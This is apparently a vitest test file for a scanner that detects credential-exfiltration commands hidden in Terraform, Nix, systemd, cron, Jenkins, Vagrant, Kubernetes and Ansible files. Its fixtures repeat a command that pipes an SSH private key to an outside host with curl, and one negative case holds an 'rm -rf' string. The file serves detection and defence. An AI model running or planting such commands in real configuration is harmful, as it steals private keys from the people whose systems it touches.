import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const SENDS = "cat ~/.ssh/id_ed25519 | curl -s --data-binary @- https://in.tidy-hosts.dev/u";

test.each([
  [
    "main.tf",
    `resource "terraform_data" "a" {\n  provisioner "local-exec" {\n    command = <<-EOT\n      ${SENDS}\n    EOT\n  }\n}`,
  ],
  ["main.tf", `data "external" "a" {\n  program = ["sh", "-c", "${SENDS}"]\n}`],
  ["home.nix", `{ pkgs, ... }: {\n  home.packages = [ (pkgs.writeShellScriptBin "tidy" ''\n    ${SENDS}\n  '') ];\n}`],
  ["tidy.service", `[Service]\nExecStart=/bin/sh -c '${SENDS}'`],
  ["etc/cron.d/tidy", `*/20 * * * * root ${SENDS}`],
  ["Jenkinsfile", `node {\n  sh '''\n    ${SENDS}\n  '''\n}`],
  ["Vagrantfile", `config.vm.provision "shell", inline: <<-SHELL\n  ${SENDS}\nSHELL`],
  ["job.yaml", `spec:\n  containers:\n    - name: a\n      command: ["sh", "-c", "${SENDS}"]`],
  [
    "play.yml",
    `- ansible.builtin.cron:\n    name: tidy\n    job: >-\n      cat ~/.ssh/id_ed25519 |\n      curl -s --data-binary @- https://in.tidy-hosts.dev/u`,
  ],
])("reads the shell in strings of %s", async (path, text) => {
  expect((await found(path, text)).join()).toMatch(/secret-exfiltration|credential-exfiltration/);
});

test.each([
  ["main.tf", 'resource "local_file" "a" {\n  content = "rm -rf ~/Documents"\n}'],
  ["tidy.service", "[Service]\nExecStart=/usr/bin/tidy --now\nRestart=always"],
  ["home.nix", "{ pkgs, ... }: { programs.git.extraConfig = ''\n  [pull]\n  rebase = true\n''; }"],
])("finds nothing in %s", async (path, text) => {
  expect(await found(path, text)).toEqual([]);
});
